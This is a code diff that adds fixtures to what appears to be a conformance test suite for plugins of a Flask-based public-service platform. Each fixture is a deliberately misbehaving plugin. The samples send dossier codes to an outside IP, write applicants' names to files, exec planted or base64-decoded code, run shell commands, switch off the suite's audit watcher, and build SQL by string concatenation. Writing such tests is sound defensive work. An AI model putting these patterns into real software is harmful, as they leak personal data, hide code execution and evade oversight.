@@ -30,6 +30,9 @@ class BrokenPlugin:
     edits: tuple[Edit, ...]
     # Other checks that fail because of the same fault (each must, and no other may).
     also_fails: tuple[str, ...] = ()
+    # Files (name, text) put in the folder the suite is run from: what the plugin finds
+    # on the test machine.
+    plant: tuple[tuple[str, str], ...] = ()
 
 
 INIT = f"{PACKAGE}/__init__.py"
@@ -372,6 +375,263 @@ def _notify(dossier, event):
         # As slow with 50,000 dossiers as with three.
         also_fails=("volume",)),
 )
+# What the plugin's own code does at run time (the runtime check, seen through Python's
+# audit hooks): each is the scaffold plus a signal receiver, a hook's line or module-level
+# code run at start-up.
+RESULT_RECEIVER = '''@signals.result_issued.connect
+def _log_result(dossier, event):
+'''
+RECEIVED_RECEIVER = '''@signals.received.connect
+def _on_received(dossier, **_kwargs):
+    if dossier.procedure_code != PROCEDURE_CODE:
+        return
+'''
+START_UP = "log = logging.getLogger(__name__)\n"
+# A name built at run time, which no reading of the source sees as the platform's.
+PLATFORM_NAME = '"_".join(["motcua", "sdk"]).split("_")[0]'
+
+
+def on_received(body: str) -> Edit:
+    """The scaffold with a receiver of ``signals.received`` (each dossier taken in)
+    running ``body`` (indented by four spaces)."""
+    return Edit(INIT, RESULT_RECEIVER, RECEIVED_RECEIVER + body + "\n\n\n" + RESULT_RECEIVER)
+
+
+def at_start_up(body: str) -> Edit:
+    """The scaffold running ``body`` when its package is imported."""
+    return Edit(INIT, START_UP, START_UP + body)
+
+
+RUNTIME_BROKEN = (
+    BrokenPlugin(
+        "posts_to_outside_host", "tells an outside server of each dossier taken in (HTTP)",
+        "runtime", (on_received('''    import urllib.request
+
+    try:
+        urllib.request.urlopen(f"http://203.0.113.7/notify?code={dossier.code}", timeout=0.2)
+    except OSError:
+        pass'''),)),
+    BrokenPlugin(
+        "resolves_licence_server", "looks its licence server's name up at start-up (DNS)",
+        "runtime", (at_start_up('''
+try:
+    import socket as _socket
+
+    _socket.getaddrinfo("licence.land-use.example", 443)
+except OSError:
+    pass
+'''),)),
+    BrokenPlugin(
+        "connects_to_local_cache", "keeps a cache in a service on the server's loopback "
+        "(a port that is not the suite's)", "runtime", (on_received('''    import socket
+
+    try:
+        socket.create_connection(("127.0.0.1", 6379), timeout=0.2).close()
+    except OSError:
+        pass'''),)),
+    BrokenPlugin(
+        "writes_tmp_file", "keeps the last dossier taken in, with the applicant's name, in "
+        "the temporary folder", "runtime", (on_received('''    import json
+    import tempfile
+    from pathlib import Path
+
+    Path(tempfile.gettempdir(), "land_use_last.json").write_text(
+        json.dumps({"code": dossier.code, "name": dossier.applicant_name}),
+        encoding="utf-8")'''),)),
+    BrokenPlugin(
+        "appends_to_working_folder", "appends each dossier taken in to a register in the "
+        "folder it was started from (os.open)", "runtime", (on_received('''    import os
+
+    fd = os.open("land_use_register.csv", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)
+    try:
+        os.write(fd, f"{dossier.code};{dossier.applicant_name}\\n".encode())
+    finally:
+        os.close(fd)'''),)),
+    BrokenPlugin(
+        "copies_beside_instance", "copies its module next to its instance folder, not in it",
+        "runtime", (on_received('''    import shutil
+    from pathlib import Path
+
+    from flask import current_app
+
+    shutil.copyfile(__file__, Path(current_app.instance_path).parent / "land_use_copy.py")'''),
+    )),
+    BrokenPlugin(
+        "execs_planted_file", "runs the Python file it finds in its working folder at "
+        "start-up (an 'extension')", "runtime", (at_start_up('''
+_EXTENSION = Path.cwd() / "land_use_extension.py"
+if _EXTENSION.is_file():
+    exec(_EXTENSION.read_text(encoding="utf-8"), {})  # noqa: S102
+'''),), plant=(("land_use_extension.py", "GREETING = 'xin chao'\n"),)),
+    BrokenPlugin(
+        "evals_expression", "computes a public field with eval()", "runtime",
+        (Edit(INIT, PUBLIC_FIELDS_HOOK, PUBLIC_FIELDS_HOOK + '''\
+    area = eval("120.5 * 1", {"__builtins__": {}})  # noqa: S307
+    assert area
+'''),)),
+    BrokenPlugin(
+        "runs_decoded_payload", "decodes and runs code hidden in a string at start-up",
+        "runtime", (at_start_up('''
+import base64 as _base64
+
+exec(_base64.b64decode("X2xvYWRlZCA9IFRydWUK").decode(), {})  # noqa: S102
+'''),)),
+    BrokenPlugin(
+        "imports_core_by_built_name", "imports the core's models by a name built at run time",
+        "runtime", (Edit(INIT, PUBLIC_FIELDS_HOOK, PUBLIC_FIELDS_HOOK + f'''    import importlib
+
+    core = importlib.import_module(".".join([{PLATFORM_NAME}, "core", "models"]))
+    assert core.Dossier is not None
+'''),)),
+    BrokenPlugin(
+        "core_from_sys_modules", "takes the core's database module from sys.modules",
+        "runtime", (on_received(f'''    import sys
+
+    name = ".".join([{PLATFORM_NAME}, "core", "db"])
+    database = getattr(sys.modules[name], "Database", None)
+    assert database is not None'''),)),
+    BrokenPlugin(
+        "core_through_platform_package", "reaches motcua.core as an attribute of the "
+        "platform's package", "runtime", (on_received(f'''    import sys
+
+    core = sys.modules[{PLATFORM_NAME}].core
+    assert core is not None'''),)),
+    BrokenPlugin(
+        "starts_a_process", "converts each dossier's form with a program it runs "
+        "(subprocess)", "runtime", (on_received('''\
+    import subprocess
+
+    subprocess.run(["true", dossier.code], check=False)'''),)),
+    BrokenPlugin(
+        "runs_shell_command", "notes each dossier taken in through a shell command "
+        "(os.system)", "runtime", (on_received('''\
+    import os
+
+    os.system("true")  # noqa: S605, S607'''),)),
+    BrokenPlugin(
+        "disables_the_watch", "switches the suite's watcher off by setting its state "
+        "at start-up", "runtime", (at_start_up(f'''
+import sys as _sys
+
+_WATCHER = _sys.modules.get(".".join([{PLATFORM_NAME}, "conformance", "audit"]))
+if _WATCHER is not None:
+    _WATCHER._ACTIVE = None
+'''), on_received('''\
+    import urllib.request
+
+    try:
+        urllib.request.urlopen("http://203.0.113.7/", timeout=0.2)
+    except OSError:
+        pass'''))),
+    BrokenPlugin(
+        "own_engine_writes_dossiers", "stamps the dossier through an engine of its own on "
+        "the platform's database", "runtime", (on_received('''\
+    from sqlalchemy import create_engine, text
+
+    url = services.session().get_bind().url
+    engine = create_engine(url, connect_args={"timeout": 0.1}
+                           if url.drivername.startswith("sqlite") else {})
+    try:
+        with engine.begin() as connection:
+            connection.execute(text("UPDATE dossiers SET note = 'land use' WHERE code = :code"),
+                               {"code": dossier.code})
+    except Exception:  # noqa: BLE001
+        pass
+    finally:
+        engine.dispose()'''),)),
+    BrokenPlugin(
+        "raw_cursor_writes_dossiers", "stamps the dossier with a cursor of the platform's "
+        "own database connection, below SQLAlchemy", "runtime", (on_received('''\
+    raw = services.session().connection().connection.driver_connection
+    cursor = raw.cursor()
+    try:
+        cursor.execute("UPDATE dossiers SET note = note WHERE code = '" + dossier.code + "'")
+    finally:
+        cursor.close()'''),)),
+    BrokenPlugin(
+        "sqlite3_connects_itself", "counts dossiers with sqlite3 directly on the platform's "
+        "database file", "runtime", (on_received('''    import sqlite3
+
+    url = services.session().get_bind().url
+    if url.drivername.startswith("sqlite"):
+        connection = sqlite3.connect(url.database, timeout=0.1)
+        try:
+            connection.execute("SELECT count(*) FROM dossiers").fetchall()
+        finally:
+            connection.close()'''),)),
+)
+BROKEN = (*BROKEN, *RUNTIME_BROKEN)
+
+
+# The plugin's migration changing the core's tables (the migrations check compares the
+# core's schema before and after its branch).
+MIGRATION = f"{PACKAGE}/migrations/0001_land_use.py"
+MIGRATION_UPGRADE_END = ('    op.create_index(constraint_name("ix", CERTIFICATES, "year"), '
+                         'CERTIFICATES, ["year"])\n')
+MIGRATION_DOWNGRADE = "def downgrade() -> None:\n"
+
+
+def in_migration(upgrade: str, downgrade: str) -> tuple[Edit, Edit]:
+    """The scaffold's migration also running ``upgrade`` (after creating its table) and
+    ``downgrade`` (before dropping it)."""
+    return (Edit(MIGRATION, MIGRATION_UPGRADE_END, MIGRATION_UPGRADE_END + upgrade),
+            Edit(MIGRATION, MIGRATION_DOWNGRADE, MIGRATION_DOWNGRADE + downgrade))
+
+
+CORE_DDL_BROKEN = (
+    BrokenPlugin(
+        "migration_adds_core_column", "its migration adds a parcel column to dossiers",
+        "migrations", in_migration(
+            '    op.add_column("dossiers", sa.Column("land_use_parcel", sa.String(40)))\n',
+            '    op.drop_column("dossiers", "land_use_parcel")\n')),
+    BrokenPlugin(
+        "migration_adds_core_index", "its migration indexes dossiers for its queue",
+        "migrations", in_migration(
+            '    op.create_index("ix_dossiers_land_use_queue", "dossiers",\n'
+            '                    ["applicant_name", "received_at"])\n',
+            '    op.drop_index("ix_dossiers_land_use_queue", table_name="dossiers")\n')),
+    BrokenPlugin(
+        "migration_drops_core_index", "its migration drops an index of dossiers (to make "
+        "its imports faster)", "migrations", in_migration(
+            '    op.drop_index("ix_dossiers_status", table_name="dossiers")\n',
+            '    op.create_index("ix_dossiers_status", "dossiers", ["status"])\n')),
+    BrokenPlugin(
+        "migration_adds_core_trigger", "its migration puts a trigger on dossiers that "
+        "touches its certificates when a dossier's status changes", "migrations",
+        in_migration('''    if op.get_bind().dialect.name == "sqlite":
+        op.execute("CREATE TRIGGER land_use_follow AFTER UPDATE OF status ON dossiers "
+                   "BEGIN UPDATE land_use_certificates SET subject = subject "
+                   "WHERE dossier_code = NEW.code; END")
+    else:
+        op.execute("CREATE FUNCTION land_use_follow() RETURNS trigger LANGUAGE plpgsql AS "
+                   "$$ BEGIN UPDATE land_use_certificates SET subject = subject "
+                   "WHERE dossier_code = NEW.code; RETURN NEW; END $$")
+        op.execute("CREATE TRIGGER land_use_follow AFTER UPDATE OF status ON dossiers "
+                   "FOR EACH ROW EXECUTE FUNCTION land_use_follow()")
+''', '''    op.execute("DROP TRIGGER IF EXISTS land_use_follow"
+               + ("" if op.get_bind().dialect.name == "sqlite" else " ON dossiers"))
+    if op.get_bind().dialect.name != "sqlite":
+        op.execute("DROP FUNCTION IF EXISTS land_use_follow()")
+''')),
+    BrokenPlugin(
+        "migration_trigger_writes_core", "its migration puts a trigger on its own table "
+        "that writes dossiers (a write no statement of the plugin shows)", "migrations",
+        in_migration('''    if op.get_bind().dialect.name == "sqlite":
+        op.execute("CREATE TRIGGER land_use_stamp AFTER INSERT ON land_use_certificates "
+                   "BEGIN UPDATE dossiers SET note = note WHERE code = NEW.dossier_code; END")
+    else:
+        op.execute("CREATE FUNCTION land_use_stamp() RETURNS trigger LANGUAGE plpgsql AS "
+                   "$$ BEGIN UPDATE dossiers SET note = note WHERE code = NEW.dossier_code; "
+                   "RETURN NEW; END $$")
+        op.execute("CREATE TRIGGER land_use_stamp AFTER INSERT ON land_use_certificates "
+                   "FOR EACH ROW EXECUTE FUNCTION land_use_stamp()")
+''', '''    op.execute("DROP TRIGGER IF EXISTS land_use_stamp"
+               + ("" if op.get_bind().dialect.name == "sqlite" else " ON land_use_certificates"))
+    if op.get_bind().dialect.name != "sqlite":
+        op.execute("DROP FUNCTION IF EXISTS land_use_stamp()")
+''')),
+)
+BROKEN = (*BROKEN, *CORE_DDL_BROKEN)
 
 
 def apply(project: Path, broken: BrokenPlugin) -> None:
